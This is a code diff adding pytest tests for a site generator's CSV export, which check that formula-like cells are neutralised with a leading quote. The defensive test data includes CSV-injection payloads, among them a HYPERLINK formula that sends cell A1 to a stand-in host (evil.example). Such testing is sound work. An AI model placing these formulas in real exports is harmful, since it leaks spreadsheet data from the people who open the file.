@@ -1,13 +1,18 @@
 """Hardening: drafts and approval requests never reach the publish folder, whatever the
-spelling of the path; --out never inside the site's own folders."""
+spelling of the path; --out never inside the site's own folders; CSV cells never formulas."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+
+from casesite.outputs.exports import COLUMNS, to_csv
 
 from .conftest import APPROVAL, CASE_STUDY, MiniSite, tree_digest
 
@@ -135,3 +140,44 @@ def test_drafts_may_be_previewed_beside_the_site(
     assert "Awaiting approval" in Path("preview/case-studies/draft-story/index.html").read_text()
     result = site.run("quotes", "--requests", "requests", capsys=capsys)
     assert result.code == 0 and Path("requests/robert-buzsaki.md").is_file()
+
+
+# CSV injection (OWASP): a cell a spreadsheet would read as a formula starts with a quote.
+FORMULA_CELLS = [
+    ('=HYPERLINK("http://evil.example/","x")', '\'=HYPERLINK("http://evil.example/","x")'),
+    ("+1+1", "'+1+1"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("A=1", "A=1"),
+    ("'quoted", "'quoted"),
+    ("", ""),
+]
+
+
+@pytest.mark.parametrize(("value", "cell"), FORMULA_CELLS)
+def test_csv_cells_that_read_as_formulas_are_neutralised(value: str, cell: str) -> None:
+    item: dict[str, object] = {name: "" for name in COLUMNS}
+    item.update(grant_amount=1, support_hours=1, title=value, themes=[value, "x"])
+    rows = list(csv.reader(io.StringIO(to_csv([item]), newline="")))
+    got = dict(zip(rows[0], rows[1], strict=True))
+    assert got["title"] == cell
+    assert got["themes"] == (f"{cell}; x" if value else "; x")
+
+
+def test_csv_of_a_built_site_neutralises_formulas_and_json_keeps_the_text(
+    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str]
+) -> None:
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    story = CASE_STUDY.replace(
+        "title: Police and associations started working together", f"title: '{title}'"
+    ).replace("developed_by: Glopolis", "developed_by: '@Glopolis'")
+    site = mini_site({"content/case-studies/hungary.md": story})
+    result = site.run("build", "--no-pdf", capsys=capsys)
+    assert result.code == 0, result.err
+    table = (site.out / "case-studies.csv").read_text("utf-8")
+    [row] = list(csv.DictReader(io.StringIO(table, newline="")))
+    assert row["title"] == "'" + title and row["developed_by"] == "'@Glopolis"
+    data = json.loads((site.out / "case-studies.json").read_text("utf-8"))["case_studies"][0]
+    assert data["title"] == title and data["developed_by"] == "@Glopolis"
